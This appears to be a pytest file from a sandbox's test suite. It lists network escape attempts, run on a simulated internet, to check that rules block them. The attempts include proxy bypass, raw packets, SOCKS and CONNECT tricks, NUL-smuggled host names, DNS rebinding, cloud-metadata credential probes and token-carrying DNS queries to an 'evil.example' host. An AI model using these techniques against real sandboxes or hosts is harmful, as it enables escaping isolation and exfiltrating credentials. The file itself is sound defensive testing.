"""The network that asks: with --network=allow and public nothing leaves but what rules say.

All of it on an internet of the test's own: nothing that is sent here leaves the machine.
"""

# ruff: noqa: E501 - a script for the inside reads better in one piece
from __future__ import annotations

import socket
from typing import TYPE_CHECKING

import pytest

from escape.abroad import (
    ALLOWED,
    ELSEWHERE,
    LAN,
    METADATA,
    OWN,
    OWN_LAN,
    PUBLIC,
    SITE,
    abroad,
    asked,
    attack,
    listening,
    named,
    on_host,
    searching,
    served,
)  # fmt: skip
from escape.attack import ROOT, Trial, prints, steps, trials

if TYPE_CHECKING:
    from escape.attack import Scene

__all__ = ["abroad"]

pytestmark = [pytest.mark.kernel, pytest.mark.network, pytest.mark.usefixtures("abroad")]


def abstract(scene: Scene) -> None:
    """A service with an abstract name, in the host's namespace."""
    with on_host():
        scene.listen(f"\0agsbx-{scene.token}")


# --- past the proxy -------------------------------------------------------------------------------

DIRECT = (
    attack(
        "tcp-past-the-proxy", "ports that nobody has taken, IPv4, IPv6 and mapped",
        """
for address in (SITE, SITE6, "::ffff:" + SITE, LAN, METADATA):
    for port in (8080, 80): tcp(address, port, get("x"))
""", "network of its own", setup=served(8080), flags=PUBLIC,
    ),
    attack(
        "udp-and-quic", "datagrams to the ports of QUIC and DNS, and to any",
        """
for family, address in ((socket.AF_INET, SITE), (socket.AF_INET6, SITE6), (socket.AF_INET6, "::ffff:" + SITE)):
    for port in (443, 80, 9999):
        try: socket.socket(family, socket.SOCK_DGRAM).sendto(b"\\xc3\\0\\0\\0\\1" + bytes(1200), (address, port))
        except OSError as error: print(error)
""", "network of its own", flags=("--network=public", "--allow", "*:9999", "--allow", f"{SITE}:443"),
        setup=steps(*(listening(socket.SOCK_DGRAM, "", port) for port in (443, 80, 9999))),
    ),
    attack(
        "icmp", "a ping with something in it",
        """
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try: socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP).sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\1" + bytes(32), (SITE, 0))
    except OSError as error: print(error)
""", "network of its own", flags=PUBLIC,
        setup=listening(socket.SOCK_RAW, proto=socket.IPPROTO_ICMP),
    ),
    attack(
        "loopback-of-the-host", "TCP, UDP and an abstract socket, directly",
        """
for address in ("127.0.0.1", "::1", "0.0.0.0", "::ffff:127.0.0.1", OWN, OWN_LAN): tcp(address, 5001, b"x")
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 5001))
except OSError as error: print(error)
""", "network of its own", flags=PUBLIC,
        setup=steps(served(5001, own=True), listening(socket.SOCK_DGRAM, "", 5001, own=True)),
    ),
    attack(
        "abstract-socket-of-the-host", "two layers close it",
        """
try: socket.socket(socket.AF_UNIX).connect("\\0agsbx-" + token)
except OSError as error: print(error)
""", "network of its own + landlock", flags=PUBLIC, setup=abstract,
        escaped=lambda s: s.reached(),
    ),
    attack(
        "raw-packets", "frames of one's own making",
        """
try: print("packets by", socket.socket(socket.AF_PACKET, socket.SOCK_RAW).family.name)
except OSError as error: print(error)
""", "seccomp + dropped capabilities + no nested user namespaces", flags=PUBLIC,
        escaped=prints("packets by AF_PACKET"), who=(ROOT,),
    ),
    attack(
        "change-the-namespace", "addresses and routes, with rights over it",
        """
import fcntl
packed = struct.pack("16sHH4s8x", b"lo:x", socket.AF_INET, 0, socket.inet_aton("192.0.2.77"))
try: fcntl.ioctl(socket.socket(), 0x8916, packed); print("changed it")
except OSError as error: print(error)
""", "dropped capabilities + no nested user namespaces", flags=PUBLIC,
        escaped=prints("changed it"), who=(ROOT,),
    ),
)  # fmt: skip

# --- by rules -------------------------------------------------------------------------------------

RULES = (
    attack(
        "raw-addresses", "IPv4, IPv6 and mapped ones, on every port that is taken",
        """
for address in (SITE, SITE6, "::ffff:" + SITE):
    tcp(address, 80, get(f"[{address}]" if ":" in address else address))
    tcp(address, 443, hello("site.example"))
    tcp(address, 22, b"SSH-2.0-x\\r\\n")
for host in (SITE.encode(), b"[" + SITE6.encode() + b"]", b"[::ffff:" + SITE.encode() + b"]"):
    connect(host + b":80", get("x"))
""", "rules for hosts", setup=served(), flags=ELSEWHERE,
    ),
    attack(
        "refused-names", "by every door",
        """
tcp("site.example", 80, get("site.example")); tcp("site.example", 443, hello("site.example")); tcp("site.example", 22)
connect(b"site.example:443", hello("site.example"))
proxied(b"GET http://site.example/ HTTP/1.1\\r\\nHost: site.example\\r\\n\\r\\n", b"")
""", "rules for hosts", setup=served(), flags=ELSEWHERE,
    ),
    attack(
        "socks", "names and addresses, in every version",
        """
socks4(v4(SITE), 80, b"", get(SITE)); socks4(v4("0.0.0.1"), 80, b"site.example", get("site.example"))
socks5(3, b"site.example", 80, get("site.example")); socks5(3, SITE.encode(), 80, get(SITE))
socks5(1, v4(SITE), 80, get(SITE)); socks5(4, v6(SITE6), 80, get(f"[{SITE6}]")); socks5(4, v6("::ffff:" + SITE), 80, get(SITE))
""", "rules for hosts", setup=served(), flags=ELSEWHERE,
    ),
    attack(
        "another-port", "of a host that is allowed",
        """
tcp("site.example", 8080, get("site.example:8080")); connect(b"site.example:8080", get("site.example:8080"))
proxied(b"GET http://site.example:8080/ HTTP/1.1\\r\\nHost: site.example:8080\\r\\n\\r\\n", b"")
socks5(3, b"site.example", 8080, get("site.example:8080")); socks4(v4("0.0.0.9"), 8080, b"site.example", b"x")
""", "ports of rules", setup=served(8080), flags=ALLOWED,
    ),
    attack(
        "another-port-of-this-machine", "beside the one that a rule names",
        """
for host in (b"localhost", b"127.0.0.1", b"[::1]", b"[::ffff:127.0.0.1]"): connect(host + b":5001", b"x")
socks5(3, b"LocalHost", 5001, b"x"); socks5(1, v4("127.0.0.1"), 5001, b"x"); tcp("localhost", 5001, b"x")
""", "ports of rules", setup=served(5001, own=True), flags=("--allow", "localhost:5000"),
    ),
    attack(
        "spellings-of-a-denied-name", "capitals, a last dot, NUL, blanks",
        """
for name in (b"OTHER.example", b"other.example.", b"oThEr.ExAmPlE", b"other.example\\0.site.example", b" other.example"):
    connect(name + b":80", get("other.example")); socks5(3, name, 80, get("other.example"))
    proxied(b"GET http://" + name + b"/ HTTP/1.1\\r\\nHost: " + name + b"\\r\\n\\r\\n", b"")
    try: tcp(name.decode(), 80, get(name.decode()))
    except ValueError as error: print(error)
""", "one spelling of a name", flags=("--network=public", "--deny", "other.example"),
        setup=steps(served(80), named(other_example=[SITE])),
    ),
    attack(
        "search-domains", "a name that becomes a denied one",
        """
for name in ("wiki", "wiki.nowhere"):
    tcp(name, 80, get(name)); connect(name.encode() + b":80", get(name))
""", "names without search domains", flags=("--network=public", "--deny", "*.corp.example"),
        setup=steps(
            served(80), searching("corp.example"),
            named(wiki_corp_example=[SITE], wiki_nowhere_corp_example=[SITE]),
        ),
    ),
)  # fmt: skip

# --- addresses that names lead to -----------------------------------------------------------------

INNER = {
    "loop_example": ["127.0.0.1"], "lan_example": [LAN], "own_example": [OWN],
    "mine_example": [OWN_LAN], "meta_example": [METADATA],
}  # fmt: skip


ADDRESSES = (
    attack(
        "names-of-inner-addresses", "the loopback, the LAN and the host itself, by a name",
        """
for name in ("loop.example", "lan.example", "own.example", "mine.example", "meta.example"):
    tcp(name, 80, get(name)); connect(name.encode() + b":80", get(name))
""", "rules for addresses", flags=("--network=public", "--allow", "*"),
        setup=steps(
            served(80, own=True), served(80, at=LAN), served(80, at=METADATA), named(**INNER),
        ),
    ),
    attack(
        "inner-addresses", "by themselves, in every form",
        """
for one in ("127.0.0.1", "::1", LAN, OWN_LAN, "::ffff:127.0.0.1", "::ffff:" + LAN):
    tcp(one, 80, get("x")); host = f"[{one}]" if ":" in one else one
    connect(host.encode() + b":80", get(host)); socks5(4 if ":" in one else 1, (v6 if ":" in one else v4)(one), 80, get(host))
for text in (b"2130706433", b"0x7f.1", b"0177.0.0.1", b"127.1"): connect(text + b":80", get("x")); socks5(3, text, 80, get("x"))
""", "rules for hosts + rules for addresses", flags=PUBLIC,
        setup=steps(served(80, own=True), served(80, at=LAN)),
    ),
    attack(
        "metadata", "credentials of the machine",
        """
tcp(METADATA, 80, get(METADATA)); connect(METADATA.encode() + b":80", get(METADATA)); socks5(1, v4(METADATA), 80, get(METADATA))
connect(b"[64:ff9b::a9fe:a9fe]:80", get("x")); tcp("::ffff:" + METADATA, 80, get("x"))
""", "rules for hosts + rules for addresses", flags=("--network=public", "--allow", "169.254.0.0/16"),
        setup=served(80, at=METADATA),
    ),
    attack(
        "public-address-of-the-host", "services that listen on every interface",
        """
tcp(OWN, 80, get(OWN)); connect(OWN.encode() + b":80", get(OWN)); socks5(1, v4(OWN), 80, get(OWN)); tcp("own.example", 80, get("own.example"))
""", "own addresses known", flags=("--network=public", "--allow", "93.184.216.0/24"),
        setup=steps(served(80, own=True), named(**INNER)),
    ),
    attack(
        "rebinding", "a name server that says something else the second time",
        """
for _ in range(3): connect(b"moving.example:80", get("moving.example"))
""", "one lookup", flags=PUBLIC,
        setup=steps(served(80, own=True), named(moving_example=[SITE, "127.0.0.1"])),
    ),
)  # fmt: skip

# --- questions ------------------------------------------------------------------------------------

QUESTIONS = (
    attack(
        "questions", "by the C library and by hand, of every kind, to any server, over UDP and TCP",
        """
for name in (f"{token}.evil.example", f"{token}.site.example"):
    try: socket.getaddrinfo(name, 80)
    except OSError as error: print(error)
    wire = b"".join(bytes((len(part),)) + part.encode() for part in name.split(".")) + b"\\0"
    for kind in (1, 28, 16, 15, 12, 65):
        data = b"\\1\\2\\1\\0\\0\\1" + bytes(6) + wire + struct.pack("!HH", kind, 1)
        for server in (SITE, "127.0.0.53", "8.8.8.8"):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(data, (server, 53))
            try: s.recv(999)
            except OSError as error: print(error)
    s = socket.create_connection((SITE, 53), 3); s.sendall(struct.pack("!H", len(data)) + data); s.recv(99)
""", "questions stay inside", flags=("--network=public", "--allow", f"{SITE}:53"),
        setup=named(), escaped=asked,
    ),
    attack(
        "lookups-of-refused-names", "what is in a name that is connected to",
        """
name = f"{token}.evil.example"
tcp(name, 80, get(name)); tcp(name, 443, hello(name)); connect(name.encode() + b":443"); socks5(3, name.encode(), 80)
tcp("site.example", 80, get(name)); tcp("site.example", 443, hello(name))
""", "rules for hosts", flags=ALLOWED, setup=steps(served(80, 443), named()), escaped=asked,
    ),
)  # fmt: skip

ATTACKS = (*DIRECT, *RULES, *ADDRESSES, *QUESTIONS)


@trials(ATTACKS)
def test_cannot_reach_what_no_rule_allows(trial: Trial) -> None:
    trial.run()
